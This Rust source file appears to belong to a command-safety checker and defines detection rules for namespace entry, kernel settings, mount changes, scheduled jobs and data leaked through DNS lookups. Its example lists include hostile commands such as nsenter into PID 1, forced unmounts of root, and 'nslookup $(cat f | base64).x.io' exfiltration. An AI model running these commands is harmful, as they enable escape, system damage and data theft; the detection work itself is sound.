//! The machine itself: namespaces, settings of the kernel, mounts, and jobs that run later.

use super::super::call::{Arg, Channel, ProgramCall, Taint};
use super::super::category::Category;
use super::super::options::{Opt, Spec, options};
use super::{DangerRule, RuleCheck};

const NAMESPACE: Category = Category::asks(
    "enter another namespace",
    "A program would run with the rights and files of another process or another root.",
);
const KERNEL: Category = Category::asks(
    "kernel settings",
    "Settings of the running kernel would be changed for every program.",
);
const MOUNT: Category = Category::asks(
    "change mounts",
    "What is found at a place of the file system would be changed or taken away.",
);
const LATER: Category =
    Category::asks("job for later", "Commands are scheduled to run when nobody looks.");
const DNS: Category = Category::asks(
    "data in a name lookup",
    "The output of a command would be sent to whoever answers for the name.",
);

pub(super) const RULES: &[DangerRule] = &[
    DangerRule {
        category: NAMESPACE,
        programs: &["nsenter", "pivot_root", "switch_root", "chroot", "machinectl", "runc", "ctr"],
        check: RuleCheck::Call(|call| {
            !call.asks_for_help()
                && match call.name {
                    "machinectl" => {
                        matches!(call.arg(0), "shell" | "login" | "terminate" | "remove")
                    }
                    "runc" | "ctr" => call.has(&["exec", "run", "delete", "kill"]),
                    _ => !call.args.is_empty(),
                }
        }),
        catches: &["nsenter -t 1 -m -u -n -i sh", "sudo chroot /mnt bash", "machinectl shell x"],
        passes: &["nsenter --help", "lsns", "machinectl list"],
    },
    DangerRule {
        category: KERNEL,
        programs: &["sysctl", "kexec", "swapoff", "ulimit-all", "prlimit", "rfkill", "setpci"],
        check: RuleCheck::Call(|call| match call.name {
            "sysctl" => call.args.iter().any(|arg| {
                let text = arg.as_str();
                text == "--write"
                    || text == "--system"
                    || text == "--load"
                    || (text.starts_with('-')
                        && !text.starts_with("--")
                        && text.contains(['w', 'p', 'f']))
                    || (!text.starts_with('-') && text.contains('='))
            }),
            "swapoff" | "setpci" => !call.args.is_empty() && !call.asks_for_help(),
            "rfkill" => call.has(&["block"]),
            _ => false,
        }),
        catches: &[
            "sysctl -w kernel.sysrq=1",
            "sudo sysctl net.ipv4.ip_forward=1",
            "sysctl -p",
            "sudo swapoff -a",
        ],
        passes: &["sysctl -a", "sysctl kernel.ostype", "sysctl -n hw.ncpu"],
    },
    DangerRule {
        category: MOUNT,
        programs: &["umount", "mount", "fusermount", "fusermount3", "losetup"],
        check: RuleCheck::Call(changes_mounts),
        catches: &[
            "umount -f /",
            "sudo umount -l /home",
            "umount -a",
            "mount --bind /tmp/x /etc",
            "mount -o remount,rw /",
            "sudo mount /dev/sdb1 /usr",
            "mount --move a /var",
        ],
        passes: &[
            "mount",
            "mount | grep ext4",
            "sudo umount /mnt/usb",
            "sudo mount /dev/sdb1 /mnt/usb",
            "mount -l",
            "mount --bind src /mnt/src",
            "fusermount -u mnt",
            "losetup -a",
        ],
    },
    DangerRule {
        category: LATER,
        programs: &["at", "batch", "systemd-run", "schtasks", "launchctl"],
        check: RuleCheck::Call(runs_later),
        catches: &[
            "at -f job.sh now + 1 hour",
            "echo ls | at now + 1 minute",
            "at midnight < job.sh",
            "systemd-run --on-active=30 ls",
            "schtasks /create /tn x /tr y",
            "launchctl submit -l x -- ls",
        ],
        passes: &["at -l", "atq", "systemd-run --user --scope make", "schtasks /query"],
    },
    DangerRule {
        category: DNS,
        programs: &["dig", "nslookup", "host", "drill", "kdig", "resolvectl", "ping", "whois"],
        check: RuleCheck::Call(|call| {
            let made = Taint::GENERATED.and(Taint::FILE).and(Taint::SECRET).and(Taint::DECODED);
            call.args.iter().any(|arg| {
                arg.taint.has(made)
                    && !arg.taint.has(Taint::NETWORK)
                    && arg.text.contains('.')
                    && arg.text.contains(|char: char| char.is_ascii_alphabetic())
            })
        }),
        catches: &[
            "dig $(whoami).x.io",
            "nslookup $(cat f | base64).x.io",
            "dig +short \"$(hostname).$(id -u).x.io\"",
        ],
        passes: &[
            "dig x.io",
            "dig $HOST",
            "dig +short $(cat domains.txt)",
            "host \"$NAME\"",
            "ping -c 1 $(hostname -I | awk '{print $1}')",
        ],
    },
];

fn changes_mounts(call: &ProgramCall<'_>) -> bool {
    const SPEC: Spec = Spec::with("otTOLUN", &["options", "types", "source", "target"]);
    if call.asks_for_help() {
        return false;
    }
    let operands: Vec<&Arg<'_>> = options(call.args, &SPEC)
        .filter_map(|opt| match opt {
            Opt::Operand(arg, _) => Some(arg),
            _ => None,
        })
        .collect();
    let is_place = |arg: &&&Arg<'_>| {
        call.protects(&arg.text).is_some()
            || super::super::paths::is_sensitive(&format!("{}/", call.path(&arg.text)))
    };
    let has = |letter, name| options(call.args, &SPEC).any(|opt| opt.is(letter, name));
    match call.name {
        "umount" => has('a', "all") || operands.iter().any(|arg| is_place(&arg)),
        "mount" => {
            let remounts = options(call.args, &SPEC).any(|opt| {
                opt.is('o', "options") && opt.value().is_some_and(|value| value.contains("remount"))
            }) && operands.iter().any(|arg| is_place(&arg));
            let hides = operands.last().is_some_and(|arg| is_place(&arg));
            remounts || hides
        }
        "losetup" => has('D', "detach-all"),
        _ => false,
    }
}

fn runs_later(call: &ProgramCall<'_>) -> bool {
    match call.name {
        "at" => {
            let looks = call.has(&["-l", "-c", "-q", "-V", "-r", "-d"]);
            !looks && !call.args.is_empty()
        }
        "batch" => call.stdin.channel != Channel::Nothing || call.has(&["-f"]),
        "systemd-run" => call
            .args
            .iter()
            .any(|arg| arg.text.starts_with("--on-") || arg.text.starts_with("--timer-property")),
        "schtasks" => call.args.iter().any(|arg| {
            arg.text.eq_ignore_ascii_case("/create") || arg.text.eq_ignore_ascii_case("/change")
        }),
        "launchctl" => matches!(call.arg(0), "submit" | "load" | "bootstrap"),
        _ => false,
    }
}
